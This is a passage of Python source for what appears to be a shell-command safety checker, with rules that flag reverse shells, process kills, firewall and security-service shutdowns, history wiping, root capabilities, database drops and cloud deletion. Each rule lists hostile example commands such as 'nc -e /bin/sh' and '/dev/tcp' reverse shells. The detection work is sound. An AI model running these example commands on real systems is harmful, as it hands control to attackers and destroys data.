    if runs_url and (url := next((a for a in cmd.args if re.match(r"https?://", a)), None)):
        return url
    if (
        cmd.name in _RUNNERS
        and any(p in FETCHERS for p in cmd.pipe_before)
        and (cmd.name == "sudo" or not cmd.operands or cmd.operands[0] in ("-", "/dev/stdin") or cmd.has("s"))
    ):
        fetch = next(p for p in cmd.pipe_before if p in FETCHERS)
        return f"{fetch} … | {cmd.name}"
    return None


@rule(
    "remote-access",
    CRITICAL,
    "opens a shell for a remote host ({}): whoever is there controls this account",
    examples=(
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "socat tcp:1.2.3.4:99 exec:/bin/sh",
        "ncat --exec /bin/bash h 1",
        "zsh -i <&$REPLY >&$REPLY 2>&1",
    ),
    counterexamples=("nc -zv host 22", "nc -l 8080", "bash -i", "sh < install.sh", "exec 3<&0"),
)
def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") and (
        cmd.has("e", "c") or any(a.startswith(("--exec", "--sh-exec")) for a in cmd.args)
    ):
        return cmd.name + " -e"
    if cmd.name == "socat" and any(re.search(r"(?i)exec:|system:", a) for a in cmd.args):
        return "socat exec:"
    if cmd.name in SHELLS or cmd.name == "exec":
        # a shell (or the current one, `exec 5<>/dev/tcp/…`) wired to a connection reads its commands there
        wired = _dev_net(cmd)
        if wired is not None:
            return wired
    if cmd.name in SHELLS and (client := next((n for n in cmd.pipe_before if n in _NET_CLIENTS), None)):
        # `nc host 4444 | sh`, `openssl s_client -connect h:443 | bash`: the host types the commands
        return f"its commands come from {client}"
    if cmd.name in SHELLS and "i" in cmd.flags:
        # an interactive shell reading a descriptor other than the terminal's (zsh's ztcp leaves
        # the socket's in $REPLY): its commands come from whatever holds that descriptor
        fed = next((r.target for r in cmd.redirects if r.op == "<&" and r.target not in ("0", "1", "2", "-")), None)
        if fed is not None:
            return f"its input is descriptor {fed}"
    return None


_NET_CLIENTS = frozenset("nc ncat netcat nc.traditional nc.openbsd socat telnet openssl cryptcat pwncat".split())


def _dev_net(cmd: Cmd) -> str | None:
    """The `/dev/tcp/HOST/PORT` (or udp) a command is redirected to or given, if any."""
    found = [r.target for r in cmd.redirects] + cmd.args
    return next((t for t in found if t.startswith(("/dev/tcp/", "/dev/udp/"))), None)


@rule(
    "remote-access",
    HIGH,
    "opens a raw connection to {}",
    examples=("echo hi > /dev/tcp/10.0.0.1/80", "cat < /dev/tcp/time.nist.gov/13"),
    counterexamples=("echo hi > /tmp/tcp.txt",),
)
def raw_connection(cmd: Cmd, ctx: Ctx) -> str | None:
    return None if cmd.name in SHELLS or cmd.name == "exec" else _dev_net(cmd)


_HARMLESS_SIGNALS = frozenset(
    "0 HUP SIGHUP 1 USR1 SIGUSR1 10 USR2 SIGUSR2 12 CONT SIGCONT 18 WINCH SIGWINCH 28 INFO".split()
)


def _signal(cmd: Cmd) -> str:
    for k, a in enumerate(cmd.args):
        if a in ("-s", "--signal", "-n") and k + 1 < len(cmd.args):
            return cmd.args[k + 1].upper()
        if (
            k + 1 < len(cmd.args)
            and re.fullmatch(r"-(\d+|[A-Za-z][A-Za-z0-9+]*)", a)
            and a not in ("-l", "-L", "-u", "-f", "-x", "-e", "-i", "-g", "-q", "-v", "-w", "-I", "-r", "-o", "-n")
        ):
            return a[1:].upper()
    return "TERM"


@rule(
    "processes",
    CRITICAL,
    "kills {}: the system goes down",
    examples=("kill -9 1", "kill -9 -1", "kill -KILL -1", "killall5", "kill -1", "pkill -9 init"),
    counterexamples=("kill -9 12345", "kill 4242", "kill -HUP 1234"),
)
def kill_everything(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "killall5":
        return "every process"
    if cmd.name in ("kill", "pkill", "killall") and _signal(cmd) in _HARMLESS_SIGNALS:
        return None  # `kill -0 1` asks whether PID 1 exists; `kill -HUP 1` reloads it
    if cmd.name in ("pkill", "killall", "slay") and any(a in ("-u", "--user") for a in cmd.args):
        users = [cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-u", "--user")]
        if any(u in ("root", "0") for u in users):
            return "every process of root"
    if (
        cmd.name in ("pkill", "killall")
        and any(o in (".", ".*", "''", "") for o in cmd.operands)
        and (cmd.has("f") or cmd.name == "pkill")
    ):
        return "every process (the pattern matches all)"
    if cmd.name == "kill":
        if any(o in ("1", "-1") for o in cmd.operands) or "-1" in cmd.args[-1:]:
            return "PID 1" if "1" in cmd.operands else "every process you can signal (-1)"
        if any(re.fullmatch(r"-\d+|-[A-Z]+", a) for a in cmd.args) and cmd.args[-1:] == ["-1"]:
            return "every process"
    if cmd.name in ("pkill", "killall") and any(
        o in ("init", "systemd", "launchd", "sshd", "-1") for o in cmd.operands
    ):
        return next(o for o in cmd.operands if o in ("init", "systemd", "launchd", "sshd", "-1"))
    return None


@rule(
    "system",
    CRITICAL,
    "writes to {}: the kernel reboots or crashes immediately",
    examples=("echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger"),
    counterexamples=("cat /proc/cpuinfo",),
)
def sysrq(cmd: Cmd, ctx: Ctx) -> str | None:
    t = _writes_to(cmd, lambda p: p in ("/proc/sysrq-trigger",), append_ok=False)
    if t:
        return t
    for r in cmd.redirects:
        if r.target in ("/proc/sysrq-trigger",):
            return r.target
    if cmd.name == "tee" and "/proc/sysrq-trigger" in cmd.operands:
        return "/proc/sysrq-trigger"
    return None


@rule(
    "system",
    HIGH,
    "{} shuts down or restarts the machine",
    examples=("shutdown -h now", "reboot", "sudo halt", "systemctl poweroff", "init 0", "poweroff"),
    counterexamples=("uptime", "systemctl status nginx"),
)
def power(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("shutdown", "reboot", "halt", "poweroff"):
        return cmd.name
    if cmd.name in ("init", "telinit") and cmd.operands[:1] in (["0"], ["6"]):
        return f"{cmd.name} {cmd.operands[0]}"
    if cmd.name in ("systemctl", "loginctl") and any(
        a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate")
        for a in cmd.operands
    ):
        return "systemctl " + next(
            a
            for a in cmd.operands
            if a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate")
        )
    if cmd.name in ("Stop-Computer", "Restart-Computer"):
        return cmd.name
    return None


@rule(
    "network",
    HIGH,
    "turns the firewall off ({})",
    examples=(
        "iptables -F",
        "ufw disable",
        "nft flush ruleset",
        "systemctl stop firewalld",
        "pfctl -d",
        "iptables -P INPUT ACCEPT",
        "ufw default allow incoming",
    ),
    counterexamples=("iptables -L", "ufw status", "ufw allow 22", "ufw default allow outgoing"),
)
def firewall_off(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("iptables", "ip6tables", "iptables-legacy", "iptables-nft") and (
        cmd.has("F", "X", "--flush") or ("P" in cmd.flags and "ACCEPT" in cmd.args)
    ):
        return cmd.name + " " + " ".join(cmd.args)
    if cmd.name == "ufw" and cmd.operands[:1] in (["disable"], ["reset"]):
        return "ufw " + cmd.operands[0]
    if cmd.name == "ufw" and cmd.operands[:2] == ["default", "allow"] and "outgoing" not in cmd.operands:
        return "ufw default allow: every port open to the network"
    if cmd.name == "nft" and cmd.operands[:2] in (["flush", "ruleset"],):
        return "nft flush ruleset"
    if cmd.name == "pfctl" and cmd.has("d", "F"):
        return "pfctl " + " ".join(cmd.args)
    if (
        cmd.name in ("systemctl", "service")
        and any(a in ("stop", "disable", "mask") for a in cmd.operands)
        and any(re.match(r"(firewalld|ufw|iptables|nftables)", a) for a in cmd.operands)
    ):
        return "the firewall service"
    if cmd.name == "netsh" and "off" in [a.lower() for a in cmd.args]:
        return "Windows firewall"
    return None


@rule(
    "anti-forensics",
    HIGH,
    "{} erases your history or scheduled jobs for good",
    examples=("history -c", "crontab -r", "unset HISTFILE", "history clear", "rm -f ~/.local/share/fish/fish_history"),
    counterexamples=(
        "history",
        "crontab -l",
        "crontab -e",
        "grep ssh ~/.bash_history > found.txt",
        "cp ~/.zsh_history ~/hist.bak 2>/dev/null",
        "echo 'ls' >> ~/.bash_history",
    ),
)
def history_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "history" and cmd.has("c", "w") and "c" in cmd.flags:
        return "history -c"
    if cmd.name == "crontab" and cmd.has("r"):
        return "crontab -r"
    if cmd.name == "unset" and "HISTFILE" in cmd.args:
        return "unset HISTFILE"
    if cmd.name == "history" and cmd.args[:1] == ["clear"]:
        return "history clear"  # fish
    if cmd.name in ("rm", "shred", "truncate"):
        hist = next((p for p in cmd.operands if _HISTORY_FILE.search(p)), None)
        if hist is not None:
            return f"{cmd.name} {hist}"
    emptied = _writes_to(cmd, lambda p: bool(_HISTORY_FILE.search(p)), append_ok=True)
    return f"{cmd.name} > {emptied}" if emptied else None


_HISTORY_FILE = re.compile(
    r"(?:^|/)\.(?:bash|zsh|sh|python|mysql|psql|node_repl)_history$|(?:^|/)fish_history$|(?:^|/)\.zhistory$"
)


@rule(
    "git",
    HIGH,
    "{} throws away work that may not be saved anywhere else",
    examples=(
        "git push --force",
        "git push -f origin main",
        "git reset --hard HEAD~1",
        "git clean -fdx",
        "git push origin +main",
        "git checkout -- .",
        "git branch -D feature",
    ),
    counterexamples=("git push", "git status", "git reset --soft HEAD~1", "git clean -n", "git commit -m 'rm -rf /'"),
)
def git_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
    """What the git command loses for good: caro/knowledge/programs.py reads git once for this rule
    and for the intent guard, so a loss is also a change unless the command is a dry run (which
    the safety check reports as one)."""
    return programs.git(["git", *cmd.args]).loses if cmd.name == "git" else None


@rule(
    "containers",
    HIGH,
    "{} deletes many containers, images or cluster objects at once",
    examples=(
        "docker system prune -a",
        "docker rm -f $(docker ps -aq)",
        "docker volume prune -f",
        "kubectl delete pods --all",
        "kubectl delete namespace prod",
    ),
    counterexamples=("docker ps -a", "docker rm web1", "kubectl get pods", "kubectl delete pod web-1"),
)
def container_mass_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    a = cmd.args
    if cmd.name in ("docker", "podman", "nerdctl"):
        if a[:2] in (
            ["system", "prune"],
            ["volume", "prune"],
            ["image", "prune"],
            ["container", "prune"],
            ["network", "prune"],
            ["builder", "prune"],
        ) and cmd.has("a", "f", "--all", "--volumes", "--force"):
            return f"{cmd.name} {a[0]} prune"
        if a[:1] == ["compose"] and "down" in a and cmd.has("v", "--volumes"):
            return f"{cmd.name} compose down --volumes"
        if a[:2] in (["volume", "prune"], ["container", "prune"], ["buildx", "prune"]):
            return f"{cmd.name} {' '.join(a[:2])}"
        if a[:1] in (["stop"], ["kill"], ["rm"]) and any("…" in x for x in a):
            return f"{cmd.name} {a[0]} $(…) (every container listed)"
        if (
            a[:1] in (["rm"], ["rmi"], ["kill"]) or a[:2] in (["container", "rm"], ["image", "rm"], ["volume", "rm"])
        ) and (any(s for s in a if "…" in s) or any(x in ("$(docker", "-aq", "-q") for x in a)):
            return f"{cmd.name} {a[0]} $(…)"
    if cmd.name in ("docker-compose", "podman-compose") and "down" in a and cmd.has("v", "--volumes"):
        return f"{cmd.name} down --volumes"
    mass = ("--all", "-A", "--all-namespaces", "namespace", "ns", "namespaces", "node", "nodes", "pv", "crd")
    if cmd.name in ("kubectl", "oc", "helm", "k") and "delete" in a and any(x in mass for x in a):
        return "kubectl delete " + " ".join(x for x in a if x != "delete")[:60]
    return None


_SQL_DANGER = re.compile(
    r"(?i)\b(drop\s+(database|schema|table)|truncate\s+(table\s+)?\w|delete\s+from\s+\w+\s*(;|$)|flushall|flushdb|dropDatabase\(\)"
    # MongoDB's DELETE without WHERE: an empty filter matches every document; drop() a whole collection
    r"|\.(?:deleteMany|remove)\(\s*\{\s*\}\s*\)|\.\w+\.drop\(\))"
)


@rule(
    "database",
    HIGH,
    "runs `{}`, which deletes data in the database",
    examples=(
        "mysql -e 'DROP DATABASE shop'",
        "psql -c 'TRUNCATE users'",
        "dropdb shop",
        "redis-cli FLUSHALL",
        "psql -c 'DELETE FROM users;'",
    ),
    counterexamples=("psql -c 'SELECT 1'", "mysql -e 'SHOW DATABASES'", "psql -c 'DELETE FROM users WHERE id=1'"),
)
def sql_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in (
        "mysql",
        "mariadb",
        "psql",
        "sqlite3",
        "sqlcmd",
        "clickhouse-client",
        "cqlsh",
        "mongo",
        "mongosh",
        "redis-cli",
        "duckdb",
        "cockroach",
        "snowsql",
        "bq",
    ):
        text = " ".join(cmd.args) + " " + (cmd.heredoc or "")
        m = _SQL_DANGER.search(text)
        if m:
            return m.group(0).strip().rstrip(";")
    if cmd.name in ("dropdb", "mysqladmin") and (cmd.name == "dropdb" or "drop" in cmd.args):
        return cmd.name
    if cmd.name.upper() in _SQL_WORDS or re.match(r"(?i)^db\.", cmd.name):
        # SQL or a database shell statement on a shell line: judged as what it would do there
        text = " ".join([cmd.name] + cmd.args)
        m = _SQL_DANGER.search(text) or _SQL_STATEMENT.search(text)
        if m:
            return m.group(0).strip().rstrip(";")
    return None


_SQL_WORDS = frozenset("DROP DELETE UPDATE TRUNCATE ALTER FLUSHALL FLUSHDB SHUTDOWN".split())
_SQL_STATEMENT = re.compile(
    r"(?i)^(update\s+\S+\s+set\b.*|alter\s+table\s+\S+\s+drop\b.*|drop\s+(index|role|user|view|column)\b.*"
    r"|shutdown(\s+(no)?save)?|db\.[\w-]+\.drop\(\)|db\.dropdatabase\(\))$"
)


@rule(
    "containers",
    HIGH,
    "{} removes cluster or container objects and what they hold",
    examples=("docker volume rm data", "kubectl delete pod web-1", "kubectl drain node01"),
    counterexamples=("kubectl get pods", "docker volume ls"),
)
def container_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    a = cmd.args
    if cmd.name in ("docker", "podman", "nerdctl") and (
        a[:2] in (["volume", "rm"], ["network", "rm"]) or (a[:1] == ["rmi"] and cmd.has("f", "--force"))
    ):
        return f"{cmd.name} {' '.join(a[:2])}"
    if cmd.name in ("kubectl", "oc", "k"):
        sub = next((x for x in a if not x.startswith("-")), "")
        if sub in ("delete", "drain"):
            return f"kubectl {sub}"
        if ("replace" in a or "apply" in a) and "--force" in a:
            sub = "replace" if "replace" in a else "apply"
            return f"kubectl {sub} --force (deletes and recreates)"
    if cmd.name == "helm" and a[:1] == ["upgrade"] and "--force" in a:
        return "helm upgrade --force (deletes and recreates)"
    return None


@rule(
    "containers",
    HIGH,
    "{} gives the container full control of this machine",
    examples=("docker run --privileged nginx",),
    counterexamples=("docker run --rm -it ubuntu bash",),
)
def privileged_container(cmd: Cmd, ctx: Ctx) -> str | None:
    if (
        cmd.name in ("docker", "podman", "nerdctl")
        and cmd.args[:1] in (["run"], ["create"], ["exec"])
        and any(x == "--privileged" or x.startswith("--privileged=t") for x in cmd.args)
    ):
        return f"{cmd.name} {cmd.args[0]} --privileged"
    return None


@rule(
    "system",
    HIGH,
    "turns off a security protection ({})",
    examples=(
        "setenforce 0",
        "csrutil disable",
        "sudo spctl --master-disable",
        "xattr -cr /",
        "sudo sysctl -w kernel.randomize_va_space=0",
        "auditctl -e 0",
    ),
    counterexamples=(
        "getenforce",
        "xattr -l file",
        "xattr -cr ./MyApp.app",
        "sysctl kernel.randomize_va_space",
        "sudo sysctl -w vm.swappiness=10",
    ),
)
def security_off(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "setenforce" and cmd.operands[:1] in (["0"], ["Permissive"], ["permissive"]):
        return "setenforce 0"
    if cmd.name == "csrutil" and "disable" in cmd.args:
        return "csrutil disable"
    if cmd.name == "spctl" and any(a in ("--master-disable", "--global-disable") for a in cmd.args):
        return "spctl --master-disable"
    if cmd.name == "xattr" and cmd.has("c", "r", "d") and "r" in cmd.flags:
        return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))
    if cmd.name == "sysctl":
        off = next((o for o in cmd.operands if _PROTECTIONS_OFF.fullmatch(o.replace(" ", ""))), None)
        return f"sysctl {off}" if off else None
    if cmd.name == "auditctl" and any(cmd.args[k : k + 2] == ["-e", "0"] for k in range(len(cmd.args))):
        return "auditctl -e 0: the audit log stops"
    if cmd.name == "defaults" and cmd.args[:1] == ["write"] and _MAC_PROTECTIONS_OFF.search(" ".join(cmd.args)):
        return " ".join(cmd.args[1:3]) + " off"
    if cmd.name in ("systemctl", "service") and {"stop", "disable", "mask", "kill"} & set(cmd.operands):
        guards = [o for o in cmd.operands if _GUARD_SERVICES.match(o)]
        return "the security service " + ", ".join(guards) if guards else None
    return None


# services that watch or protect the machine: audit logs, endpoint agents, mandatory access control,
# intrusion bans, virus scanners
_GUARD_SERVICES = re.compile(
    r"^(?:auditd|apparmor|selinux\w*|falcon-sensor|crowdstrike\w*|osqueryd|wazuh-agent|ossec\w*|"
    r"clamav-\w+|clamd\w*|fail2ban|sentinelone\w*|mdatp|elastic-agent|aide\w*|tripwire)(?:\.service)?$"
)


@rule(
    "persistence",
    CRITICAL,
    "makes {} run as root at every login or logout",
    examples=("sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh",),
    counterexamples=("defaults read com.apple.loginwindow", "defaults delete com.apple.loginwindow LoginHook"),
)
def login_hook(cmd: Cmd, ctx: Ctx) -> str | None:
    a = cmd.args
    hook = cmd.name == "defaults" and a[:1] == ["write"] and len(a) >= 4 and a[2] in ("LoginHook", "LogoutHook")
    return a[3] if hook else None


@rule(
    "privilege",
    CRITICAL,
    "gives {} a root capability: whoever runs it can become root",
    examples=("setcap cap_setuid+ep /usr/bin/python3.11", "sudo setcap cap_dac_override=eip /bin/bash"),
    counterexamples=("setcap cap_net_bind_service=+ep ./server", "getcap /usr/bin/ping"),
)
def root_capability(cmd: Cmd, ctx: Ctx) -> str | None:
    """A capability that is root in all but name (setuid, reading or writing any file, admin), on a
    program that runs whatever it is told: an interpreter or a shell."""
    if cmd.name != "setcap" or len(cmd.operands) < 2:
        return None
    caps, target = cmd.operands[0].lower(), cmd.operands[-1]
    root_like = re.search(r"cap_(?:setuid|setgid|dac_override|dac_read_search|sys_admin|sys_ptrace|chown|fowner)", caps)
    runs_anything = SHELL_BINARIES.match(target) or re.search(r"/(?:python|perl|ruby|node|php|lua|gdb)[\d.]*$", target)
    return target if root_like and runs_anything else None


# macOS settings that, set to false or 0, unlock the screen without a password or stop marking
# downloads as untrusted (Gatekeeper's quarantine) or the firewall's stealth
_MAC_PROTECTIONS_OFF = re.compile(
    r"\b(?:askForPassword|LSQuarantine|globalstate|EnableStealthMode)\s+(?:-int\s+0|-bool\s+(?:false|no|0))\b",
    re.IGNORECASE,
)


@rule(
    "delete",
    HIGH,
    "deletes backups ({}): what they kept is gone for good",
    examples=("sudo tmutil delete -p /Volumes/TM/backup", "tmutil deletelocalsnapshots /", "borg delete repo::a"),
    counterexamples=("tmutil listbackups", "borg list repo", "restic snapshots"),
)
def backups_deleted(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "tmutil" and cmd.operands[:1] and cmd.operands[0].lower() in ("delete", "deletelocalsnapshots"):
        return "tmutil " + cmd.operands[0]
    if cmd.name == "borg" and cmd.operands[:1] in (["delete"], ["prune"]):
        return "borg " + cmd.operands[0]
    if cmd.name == "restic" and cmd.operands[:1] == ["forget"] and "--prune" in cmd.args:
        return "restic forget --prune"
    return None


# kernel settings whose value 0 switches a protection off (address randomisation, pointer hiding,
# ptrace limits, protected links, module signing …)
_PROTECTIONS_OFF = re.compile(
    r"kernel\.(?:randomize_va_space|kptr_restrict|dmesg_restrict|yama\.ptrace_scope|modules_disabled|"
    r"unprivileged_bpf_disabled|perf_event_paranoid)=0|fs\.protected_(?:symlinks|hardlinks|regular|fifos)=0"
)


@rule("delete", CRITICAL, "{} wipes a Windows drive or system folder")
def windows_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
    if ctx.shell not in ("powershell", "pwsh", "cmd"):
        return None
    low = [a.lower() for a in cmd.args]
    name = cmd.name.lower()
    drive = re.compile(r"^[a-z]:\\?(\\\*|\*)?$")
    if name == "format" and any(re.fullmatch(r"[a-z]:", a) for a in low):
        return "format " + next(a for a in low if re.fullmatch(r"[a-z]:", a)).upper()
    if (
        name in ("del", "erase", "rd", "rmdir")
        and any(a in ("/s",) for a in low)
        and any(drive.match(a) or a in ("\\", "%systemroot%", "%userprofile%") for a in low)
    ):
        return " ".join(cmd.args)
    if (
        name in ("remove-item", "rm", "ri", "del")
        and any(a in ("-recurse", "-r") for a in low)
        and any(drive.match(a) or a.startswith(("c:\\windows", "$env:userprofile", "~")) for a in low)
    ):
        return " ".join(cmd.args)
    if name in ("format-volume", "clear-disk", "initialize-disk"):
        return cmd.name
    if name == "diskpart":
        return "diskpart"
    return None


@rule(
    "cloud",
    HIGH,
    "{} deletes cloud resources or data",
    examples=("terraform destroy", "aws s3 rm s3://bucket --recursive", "gsutil rm -r gs://b"),
    counterexamples=("terraform plan", "aws s3 ls"),
)
def cloud_destroy(cmd: Cmd, ctx: Ctx) -> str | None:
    a = cmd.args
    if cmd.name in ("terraform", "tofu") and a[:1] == ["destroy"]:
        return "terraform destroy"
    if cmd.name in ("terraform", "tofu"):
        if a[:1] == ["apply"] and any(x.lstrip("-") == "auto-approve" for x in a):
            return "terraform apply -auto-approve (changes infrastructure without showing the plan)"
        if a[:1] == ["force-unlock"] or a[:2] in (
            ["state", "rm"],
            ["state", "mv"],
            ["state", "replace-provider"],
            ["workspace", "delete"],
        ):
            return "terraform " + " ".join(a[:2] if a[0] != "force-unlock" else a[:1])
    if cmd.name == "aws" and "s3" in a[:1] and "rm" in a and "--recursive" in a:
        return "aws s3 rm --recursive"
    if cmd.name == "aws" and "s3" in a[:1] and "rb" in a and "--force" in a:
        return "aws s3 rb --force"
    if cmd.name in ("gsutil",) and ("rm" in a and "-r" in a):
        return "gsutil rm -r"
    return None


_REMOTE_CLIS = frozenset(
    """aws gcloud az gh glab heroku vercel netlify fly flyctl doctl linode-cli hcloud oci ibmcloud
firebase supabase helm vault op kafka-topics kafka-configs rabbitmqctl nats rclone velero restic borg circleci
gitlab-runner npm yarn pnpm cargo s3cmd mc consul etcdctl nomad pulumi serverless sls eksctl virsh vagrant
multipass lxc zfs zpool btrfs vgremove lvremove pvremove gsutil bq redis-cli jenkins-cli wrangler railway
render stripe twilio okta auth0 databricks snowsql openstack swift doppler rabbitmqadmin rabbitmqctl kafka-acls
kafka-consumer-groups kafka-delete-records infisical""".split()
)
# verbs that destroy only for one tool (elsewhere the same word is harmless)
_TOOL_VERBS = {"vault": ("disable",), "gh": ("archive",), "borg": ("compact",), "aws": ("unsubscribe",)}
_DESTROY_FLAG = re.compile(r"^--(delete|delete-[\w-]+|remove|purge|force-delete)$")
_DESTROY_VERB = re.compile(
    r"^(delete|destroy|remove|rm|rb|purge|prune|terminate|uninstall|unregister|unpublish|deprecate|yank|"
    r"forget|undefine|drop|wipe|erase|flush|revoke|rmdir|delete[-_][\w-]+|destroy[-_][\w-]+|terminate[-_][\w-]+|"
    r"remove[-_][\w-]+|deregister[-_][\w-]+|purge[-_][\w-]+|clear[-_][\w-]+|[\w]+-delete|rdelete|deletefile|unset|del|"
    r"[\w-]+:(delete|destroy|remove|rm|unset|detach|disable|kill|reset|leave|stop)|(secret|env|config):unset)$"
)


@rule(
    "cloud",
    HIGH,
    "{} deletes remote resources or data, usually for good",
    examples=(
        "aws secretsmanager delete-secret --secret-id x",
        "gh repo delete o/r",
        "helm uninstall web",
        "rclone purge r:b",
        "vgremove vg1",
        "heroku apps:destroy",
        "vault kv delete secret/x",
        "npm unpublish pkg",
        "gcloud compute instances delete vm1",
    ),
    counterexamples=("aws s3 ls", "gh repo view", "helm list", "npm install", "gcloud config list"),
)
def remote_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    name = cmd.name
    if name == "java" and any(a.endswith("jenkins-cli.jar") for a in cmd.args):
        name = "jenkins-cli"
    if name in ("vgremove", "lvremove", "pvremove"):
        return name + " " + " ".join(cmd.operands)
    if name not in _REMOTE_CLIS and not name.startswith("kafka-"):
        return None
    if re.search(r"-(delete|destroy|purge)(-|$)", name):
        return name  # kafka-delete-records
    verb = next((o for o in cmd.operands[:4] if _DESTROY_VERB.match(o.lower()) or o in _TOOL_VERBS.get(name, ())), None)
    if verb is None:
        verb = next((a for a in cmd.args if _DESTROY_FLAG.match(a.split("=", 1)[0])), None)
    if (
        verb is None
        and name == "gh"
        and any(a.startswith("--visibility") for a in cmd.args)
        and "public" in " ".join(cmd.args)
    ):
        verb = "--visibility public (publishes the repository)"
    if verb is None:
        return None
    return f"{name} … {verb}"


@rule(
    "cloud",
    HIGH,
    "sends an HTTP DELETE to {}",
    examples=("curl -X DELETE http://localhost:9200/logs", "curl --request DELETE https://api/x/1"),
    counterexamples=("curl -X GET http://x", "curl http://x"),
)
def http_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("curl", "http", "https", "xh", "wget"):
        for k, a in enumerate(cmd.args):
            if a in ("-X", "--request", "--method") and k + 1 < len(cmd.args) and cmd.args[k + 1].upper() == "DELETE":
                return next((o for o in cmd.operands if "://" in o or o.startswith(("localhost", "http"))), "a URL")
            if a.upper() in ("-XDELETE", "--REQUEST=DELETE", "DELETE") and cmd.name in (
                "curl",
                "http",
                "https",
                "xh",
                "wget",
            ):
                return next((o for o in cmd.operands if "://" in o), "a URL")
        # a POST to an endpoint named for deleting (`…/doDelete`, `…/destroy`)
        url = next((o for o in cmd.operands if "://" in o), "")
        if re.search(r"(?i)/(do)?(delete|destroy|purge|wipe)(\b|[/?])", url) and any(
            a.upper() in ("POST", "-XPOST") for a in cmd.args
        ):
            return url
    return None


@rule(
    "delete",
    HIGH,
    "deletes files in {} that are not in the source",
    examples=("rsync -a --delete src/ dst/", "rclone sync /src remote:b --delete-excluded"),
    counterexamples=("rsync -a src/ dst/",),
)
def sync_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("rsync", "rclone", "aws", "gsutil", "s3cmd", "mc") and any(
        a.startswith(("--delete", "--del")) or a in ("--remove-source-files", "-d") and cmd.name != "aws"
        for a in cmd.args
    ):
        return cmd.operands[-1] if cmd.operands else "the destination"
    if cmd.name == "rclone" and cmd.operands[:1] in (["purge"], ["sync"]):
        return cmd.operands[-1]
    return None


@rule(
    "network",
    HIGH,
    "takes the network down ({}): a remote session would be cut off",
    examples=(
        "ifconfig eth0 down",
        "ip link set eth0 down",
        "sudo systemctl stop NetworkManager",
        "systemctl stop sshd",
    ),
    counterexamples=("ip addr", "ifconfig", "systemctl status sshd"),
)
def network_down(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("ifconfig",) and "down" in cmd.operands:
        return "ifconfig … down"
    if cmd.name in ("ip",) and "link" in cmd.operands and "down" in cmd.operands:
        return "ip link … down"
    if (
        cmd.name == "ip"
        and "route" in cmd.operands[:2]
        and any(x in ("flush", "del", "delete") for x in cmd.operands)
        or cmd.name == "route"
        and any(x in ("del", "delete", "flush") for x in cmd.operands)
        and "default" in " ".join(cmd.operands + ["default"])
    ):
        return "removes network routes"
    if cmd.name in ("ifdown", "nmcli") and (cmd.name == "ifdown" or "off" in cmd.operands or "down" in cmd.operands):
        return cmd.name
    if (
        cmd.name in ("systemctl", "service")
        and any(a in ("stop", "disable", "mask") for a in cmd.operands)
        and any(
            re.match(r"(NetworkManager|networking|network|systemd-networkd|sshd?|wpa_supplicant)(\.service)?$", a)
            for a in cmd.operands
        )
    ):
        return "the network or SSH service"
    return None


@rule(
    "accounts",
    HIGH,
    "removes the account or password of {}",
    examples=("userdel -r bob", "passwd -d root"),
    counterexamples=("id bob",),
)
def user_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("userdel", "deluser") and cmd.operands:
        return cmd.operands[-1]
    if cmd.name == "passwd" and cmd.has("d", "l") and cmd.operands[:1] == ["root"]:
        return "the root password"
    return None


@rule(
    "privilege",
    MODERATE,
    "runs with root privileges ({})",
    examples=("sudo apt update",),
    counterexamples=("apt list",),
)
def as_root(cmd: Cmd, ctx: Ctx) -> str | None:
    return next((v for v in cmd.via if v in ("sudo", "doas", "runuser")), None)


@rule(
    "processes",
    MODERATE,
    "force-kills {} without letting it clean up",
    examples=("kill -9 12345", "pkill -9 node"),
    counterexamples=("kill 12345",),
)
def kill_9(cmd: Cmd, ctx: Ctx) -> str | None:
    if (
        cmd.name in ("kill", "pkill", "killall")
        and _signal(cmd) not in _HARMLESS_SIGNALS
        and (cmd.has("9", "KILL") or "-SIGKILL" in cmd.args or "SIGKILL" in cmd.args)
    ):
        return " ".join(cmd.operands) or "processes"
    return None


@rule(
    "delete",
    HIGH,
    "overwrites or deletes {}",
    examples=("echo x > ~/.bashrc", "rm ~/.ssh/id_rsa", "cat k > ~/.ssh/authorized_keys"),
    counterexamples=("echo x >> ~/.bashrc", "cat ~/.bashrc"),
)
def overwrite_dotfile(cmd: Cmd, ctx: Ctx) -> str | None:
    def dot(p: str) -> bool:
        return bool(
            re.fullmatch(
                r"(~|\$HOME|\$\{HOME\})/\.(bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/id_\w+|ssh/config|gitconfig|ssh/?\*?|gnupg(?:/.*)?)",
                P.normalise(p),
            )
        )

    t = _writes_to(cmd, dot, append_ok=True)
    if t:
        return t
    copies = cmd.name in ("cp", "mv", "install", "rsync") or cmd.name == "ln" and cmd.has("f", "--force")
    if copies and (t := next((t for t in copy_targets(cmd) if dot(t)), None)):
        return t  # `cp dotfiles/.bashrc ~/` replaces the one in use
    if cmd.name in ("rm", "shred") or (cmd.name == "mv" and cmd.operands):
